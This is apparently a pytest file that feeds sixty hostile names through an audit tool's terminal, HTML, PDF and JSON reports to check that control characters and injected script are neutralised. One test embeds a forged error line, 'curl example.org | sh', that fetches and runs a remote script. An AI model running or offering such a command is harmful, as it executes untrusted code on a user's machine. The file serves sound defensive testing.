"""Sixty hostile names through every place a user can name, to every output."""

from __future__ import annotations

import html
import io
import re
from dataclasses import replace
from functools import cache
from pathlib import Path

import pytest
import synthetic_audits
from hostile_names import NAMES
from pypdf import PdfReader
from synthetic_attacks import threat

from auditor.cli import console
from auditor.cli.terminal import show_summary
from auditor.errors import LoadError
from auditor.printable import encodable, printable
from auditor.report import ReportSource, write_reports
from auditor.results import AuditResult, from_json, to_json

COMMANDS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")


@cache
def named(*names: str) -> AuditResult:
    """An audit in which everything that can have a name has one of these: the first, or each."""
    first = names[0]
    judged = threat("8/255", 280, names, rationale=" ".join(names))
    models = [
        synthetic_audits.model(
            name,
            [judged] if name == first else [],
            findings=(synthetic_audits.finding("code", text=name),),
            gallery=(synthetic_audits.picture(1, name, name),) if name == first else (),
        )
        for name in names
    ]
    return replace(
        synthetic_audits.audit(models),
        title=first,
        reviewers=names,
        reasons=names,
        provenance=synthetic_audits.provenance((*names, "other")),
    )


@pytest.fixture
def wide(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "2000")


def test_there_are_sixty() -> None:
    assert len(set(NAMES)) == 60


@pytest.mark.parametrize("encoding", ["utf-8", "ascii", "cp932", "cp1252"])
def test_terminal(encoding: str, wide: None, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in NAMES:
        raw = io.BytesIO()
        stream = console._Stream(raw, encoding, console._ERRORS)
        monkeypatch.setattr("sys.stderr", stream)
        show_summary(console.PlainConsole(file=stream), named(name))
        console.say(f"error: {LoadError(name, where=name, remedy='mend it').render()}", error=True)
        stream.flush()
        shown = raw.getvalue().decode(encoding)
        assert not COMMANDS.search(shown), name
        assert [line for line in shown.splitlines() if line.startswith("  remedy:")] == [
            "  remedy:   mend it"
        ]
        if encoding == "utf-8":
            # The title, the model, the reason, and the error's two lines.
            first = printable(name).partition("\n")[0].partition("\t")[0].strip()
            assert shown.count(first) >= 5, name


def test_html() -> None:
    for start in range(0, 60, 15):
        names = NAMES[start : start + 15]
        page = ReportSource(named(*names), b"raw").page
        assert not COMMANDS.search(page)
        assert "<script" not in page
        assert "onerror=x()>" not in page
        text = " ".join(html.unescape(page).split())
        for name in names:
            assert " ".join(printable(name).split())[:40] in text, name


@pytest.mark.slow
def test_pdf(tmp_path: Path) -> None:
    everything = " ".join(NAMES)
    model = synthetic_audits.model("m", [threat("8/255", 280, NAMES[:3], rationale=everything)])
    result = synthetic_audits.audit([model], title=everything[:400], reasons=NAMES)
    (tmp_path / "audit.json").write_text(to_json(result), encoding="utf-8")
    told: list[str] = []
    write_reports(tmp_path, ["pdf"], tell=told.append)
    (said,) = told
    assert said.startswith("report.pdf: No font that is installed here has ")
    text = "".join(page.extract_text() for page in PdfReader(tmp_path / "report.pdf").pages)
    assert "nets[/best]" in text
    assert "release [draft 3]" in " ".join(text.split())
    assert "\\U0010ffff" in text


def test_json() -> None:
    for name in NAMES:
        result = named(name)
        text = to_json(result)
        assert from_json(text) == encodable(result)
        if not re.search("[\ud800-\udfff]", name):
            assert from_json(text) == result
    assert from_json(to_json(named("caf\udce9"))).title == r"caf\xe9"


def test_a_title_of_200000_letters_is_bounded_and_told() -> None:
    long = "n" * 200_000
    result = named("a")
    finding = replace(result.models[0].findings[0], summary=long)
    model = replace(result.models[0], findings=(finding,))
    page = ReportSource(replace(result, title=long, models=(model,)), b"raw").page
    assert "n" * 5_001 not in page
    assert "(195,000 more letters are in audit.json)" in page


def test_further_lines_of_an_error_cannot_look_like_its_own() -> None:
    forged = LoadError("unexpected: a\n  remedy:   curl example.org | sh", remedy="mend it")
    assert forged.render().splitlines() == [
        "unexpected: a",
        "              remedy:   curl example.org | sh",
        "  remedy:   mend it",
    ]
